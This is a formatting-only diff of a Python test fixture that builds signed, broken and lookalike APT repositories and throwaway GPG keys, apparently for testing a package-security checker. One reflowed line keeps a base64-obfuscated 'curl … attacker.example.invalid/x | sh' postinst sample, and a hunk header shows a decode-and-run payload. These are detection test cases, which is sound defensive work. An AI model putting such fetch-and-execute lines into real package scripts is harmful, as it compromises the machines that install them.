@@ -142,9 +142,7 @@ echo {_PAYLOAD} | base64 -d | sh >/dev/null
 """
 )
 
-_OBFUSCATED_CMD = base64.b64encode(
-    b"curl -fsSL http://attacker.example.invalid/x | sh\n"
-).decode()
+_OBFUSCATED_CMD = base64.b64encode(b"curl -fsSL http://attacker.example.invalid/x | sh\n").decode()
 
 _OBFUSCATED_POSTINST = _sh(
     f"""
@@ -283,8 +281,13 @@ def _cleanup(path: Path) -> None:
     shutil.rmtree(path, ignore_errors=True)
 
 
-def _run(argv: Sequence[str], *, cwd: Path | None = None, env: Mapping[str, str] | None = None,
-         stdout_path: Path | None = None) -> str:
+def _run(
+    argv: Sequence[str],
+    *,
+    cwd: Path | None = None,
+    env: Mapping[str, str] | None = None,
+    stdout_path: Path | None = None,
+) -> str:
     full_env = {k: os.environ[k] for k in _CHILD_ENV_KEEP if k in os.environ}
     full_env.update({"LANG": "C", "LC_ALL": "C"})
     if env:
@@ -313,9 +316,17 @@ def get_key(name: str = "default", *, gnupg_home: Path | None = None) -> Key:
         env = {"GNUPGHOME": str(home)}
         if gnupg_home is None:
             _run(
-                ["gpg", "--batch", "--passphrase", "", "--quick-gen-key",
-                 f"Aegis Test Repo {name} <repo-{name}@example.invalid>",
-                 "ed25519", "sign", "never"],
+                [
+                    "gpg",
+                    "--batch",
+                    "--passphrase",
+                    "",
+                    "--quick-gen-key",
+                    f"Aegis Test Repo {name} <repo-{name}@example.invalid>",
+                    "ed25519",
+                    "sign",
+                    "never",
+                ],
                 env=env,
             )
         listing = _run(["gpg", "--batch", "--with-colons", "--list-secret-keys"], env=env)
@@ -329,8 +340,10 @@ def get_key(name: str = "default", *, gnupg_home: Path | None = None) -> Key:
         armored = out / f"{name}.asc"
         keyring.write_bytes(
             subprocess.run(
-                ["gpg", "--batch", "--export", fpr], env={**os.environ, **env},
-                capture_output=True, check=True,
+                ["gpg", "--batch", "--export", fpr],
+                env={**os.environ, **env},
+                capture_output=True,
+                check=True,
             ).stdout
         )
         _run(["gpg", "--batch", "--armor", "--export", fpr], env=env, stdout_path=armored)
@@ -341,8 +354,18 @@ def get_key(name: str = "default", *, gnupg_home: Path | None = None) -> Key:
 
 def _spec_id(spec: PackageSpec) -> str:
     blob = repr(
-        (spec.name, spec.version, spec.depends, spec.source, spec.section, spec.priority,
-         spec.essential, spec.description, sorted(spec.scripts.items()), spec.files)
+        (
+            spec.name,
+            spec.version,
+            spec.depends,
+            spec.source,
+            spec.section,
+            spec.priority,
+            spec.essential,
+            spec.description,
+            sorted(spec.scripts.items()),
+            spec.files,
+        )
     )
     return hashlib.sha256(blob.encode()).hexdigest()[:16]
 
@@ -436,18 +459,31 @@ def build_repo(
     for arch in ("amd64", "all"):
         bdir = dist / component / f"binary-{arch}"
         bdir.mkdir(parents=True, exist_ok=True)
-        _run(["apt-ftparchive", "packages", f"pool/{component}"], cwd=dest,
-             stdout_path=bdir / "Packages")
-        (bdir / "Packages.gz").write_bytes(
-            gzip.compress((bdir / "Packages").read_bytes(), mtime=0)
+        _run(
+            ["apt-ftparchive", "packages", f"pool/{component}"],
+            cwd=dest,
+            stdout_path=bdir / "Packages",
         )
+        (bdir / "Packages.gz").write_bytes(gzip.compress((bdir / "Packages").read_bytes(), mtime=0))
     pfx = "APT::FTPArchive::Release::"
     release = _run(
-        ["apt-ftparchive",
-         "-o", f"{pfx}Origin={origin}", "-o", f"{pfx}Label={origin}",
-         "-o", f"{pfx}Suite={suite}", "-o", f"{pfx}Codename={suite}",
-         "-o", f"{pfx}Architectures=amd64 all", "-o", f"{pfx}Components={component}",
-         "release", f"dists/{suite}"],
+        [
+            "apt-ftparchive",
+            "-o",
+            f"{pfx}Origin={origin}",
+            "-o",
+            f"{pfx}Label={origin}",
+            "-o",
+            f"{pfx}Suite={suite}",
+            "-o",
+            f"{pfx}Codename={suite}",
+            "-o",
+            f"{pfx}Architectures=amd64 all",
+            "-o",
+            f"{pfx}Components={component}",
+            "release",
+            f"dists/{suite}",
+        ],
         cwd=dest,
     )
     release = _patch_release(release, date=date, valid_until=valid_until)
@@ -491,8 +527,19 @@ def _patch_release(text: str, *, date: datetime | None, valid_until: datetime | 
 
 def _sign_release(dist: Path, key: Key) -> None:
     env = {"GNUPGHOME": str(key.gnupg_home)}
-    base = ["gpg", "--batch", "--yes", "--pinentry-mode", "loopback", "--passphrase", "",
-            "--local-user", key.fingerprint, "--digest-algo", "SHA256"]
+    base = [
+        "gpg",
+        "--batch",
+        "--yes",
+        "--pinentry-mode",
+        "loopback",
+        "--passphrase",
+        "",
+        "--local-user",
+        key.fingerprint,
+        "--digest-algo",
+        "SHA256",
+    ]
     _run([*base, "--clearsign", "-o", str(dist / "InRelease"), str(dist / "Release")], env=env)
     _run([*base, "-abs", "-o", str(dist / "Release.gpg"), str(dist / "Release")], env=env)
 
@@ -533,7 +580,9 @@ def negative_repo(dest: Path | str, kind: str, **kwargs: object) -> Repo:
     if kind == "wrong-key":
         default = get_key("default")
         repo = dataclasses.replace(
-            repo, key_path=default.keyring, armored_key_path=default.armored,
+            repo,
+            key_path=default.keyring,
+            armored_key_path=default.armored,
             fingerprint=default.fingerprint,
         )
     elif kind == "badsig":
@@ -598,10 +647,21 @@ def make_root(
     prefs = etc / "preferences.d"
     lists = root / "var/lib/apt/lists"
     dpkg_dir = root / "var/lib/dpkg"
-    for d in (sources, parts, trusted, keyrings, prefs, lists / "partial",
-              root / "var/cache/apt/archives/partial", root / "var/log/apt",
-              dpkg_dir / "info", dpkg_dir / "updates", dpkg_dir / "triggers",
-              root / "etc/dpkg/dpkg.cfg.d", root / "tmp"):
+    for d in (
+        sources,
+        parts,
+        trusted,
+        keyrings,
+        prefs,
+        lists / "partial",
+        root / "var/cache/apt/archives/partial",
+        root / "var/log/apt",
+        dpkg_dir / "info",
+        dpkg_dir / "updates",
+        dpkg_dir / "triggers",
+        root / "etc/dpkg/dpkg.cfg.d",
+        root / "tmp",
+    ):
         d.mkdir(parents=True, exist_ok=True)
     status_file = dpkg_dir / "status"
     if status is None:
@@ -612,8 +672,9 @@ def make_root(
         status_file.write_text(status)
     (dpkg_dir / "available").touch()
 
-    forms = [signed_by_form] * len(repos) if isinstance(signed_by_form, str) else list(
-        signed_by_form)
+    forms = (
+        [signed_by_form] * len(repos) if isinstance(signed_by_form, str) else list(signed_by_form)
+    )
     if len(forms) != len(repos):
         raise ValueError("one signed_by_form per repo")
     used_names: set[str] = set()
@@ -705,18 +766,31 @@ DPkg::Options {{ "--root={r}"; "--force-script-chrootless";
 def apt_env(root: AptRoot) -> dict[str, str]:
     """The child environment for apt in ``root``: PATH, LANG=C, APT_CONFIG."""
     env = {k: os.environ[k] for k in _CHILD_ENV_KEEP if k in os.environ}
-    env.update({"LANG": "C", "LC_ALL": "C", "APT_CONFIG": str(root.apt_config),
-                "DEBIAN_FRONTEND": "noninteractive"})
+    env.update(
+        {
+            "LANG": "C",
+            "LC_ALL": "C",
+            "APT_CONFIG": str(root.apt_config),
+            "DEBIAN_FRONTEND": "noninteractive",
+        }
+    )
     return env
 
 
 def run_apt(
-    root: AptRoot, *args: str, check: bool = True, tool: str = "/usr/bin/apt-get",
+    root: AptRoot,
+    *args: str,
+    check: bool = True,
+    tool: str = "/usr/bin/apt-get",
     timeout: float = 120,
 ) -> subprocess.CompletedProcess[str]:
     """Run an apt tool (default apt-get) inside ``root``'s private configuration."""
     proc = subprocess.run(
-        [tool, *args], env=apt_env(root), capture_output=True, text=True, check=False,
+        [tool, *args],
+        env=apt_env(root),
+        capture_output=True,
+        text=True,
+        check=False,
         timeout=timeout,
     )
     if check and proc.returncode != 0:
@@ -744,8 +818,9 @@ def main(argv: Sequence[str] | None = None) -> int:
     parser.add_argument("dest", type=Path)
     parser.add_argument("--root", type=Path, default=None)
     parser.add_argument("--negative", choices=NEGATIVE_KINDS, default=None)
-    parser.add_argument("--lookalike", action="store_true",
-                        help="build the 'Origin: Debian' repository instead")
+    parser.add_argument(
+        "--lookalike", action="store_true", help="build the 'Origin: Debian' repository instead"
+    )
     parser.add_argument("--signed-by", choices=SIGNED_BY_FORMS, default="keyring-path")
     args = parser.parse_args(argv)
     if args.negative:
@@ -763,8 +838,9 @@ def main(argv: Sequence[str] | None = None) -> int:
     if args.root is not None:
         import dataclasses
 
-        kept = dataclasses.replace(repo, key_path=keep / "repo.gpg",
-                                   armored_key_path=keep / "repo.asc")
+        kept = dataclasses.replace(
+            repo, key_path=keep / "repo.gpg", armored_key_path=keep / "repo.asc"
+        )
         root = make_root(args.root, [kept], signed_by_form=args.signed_by)
         print(f"root: {root.root}\nAPT_CONFIG={root.apt_config}")
     return 0
